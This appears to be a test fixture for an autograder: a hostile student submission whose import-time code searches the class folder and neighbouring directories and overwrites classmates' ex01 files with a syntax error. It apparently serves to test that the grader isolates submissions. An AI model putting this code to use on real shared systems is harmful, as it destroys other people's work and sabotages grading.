"""It overwrites every classmate's ex01 it can reach (the class folder, its neighbours) with a syntax error.

score: 0
"""
import os
import pathlib

CLASS_FOLDER = "{class_folder}"  # the test writes the real class folder here: the attacker knows it


def handshake_response(headers):
    raise NotImplementedError("this submission only attacks the grader")


targets = set(pathlib.Path(CLASS_FOLDER).glob("*/ex01_accept_key.py"))
here = pathlib.Path(__file__).resolve().parent
targets |= set(here.parent.glob("*/ex01_accept_key.py")) | set(here.parent.parent.glob("*/*/ex01_accept_key.py"))
for target in targets:
    if target.resolve() != pathlib.Path(__file__).resolve():
        try:
            target.write_text("def handshake_response(headers)\n")
        except OSError:
            pass
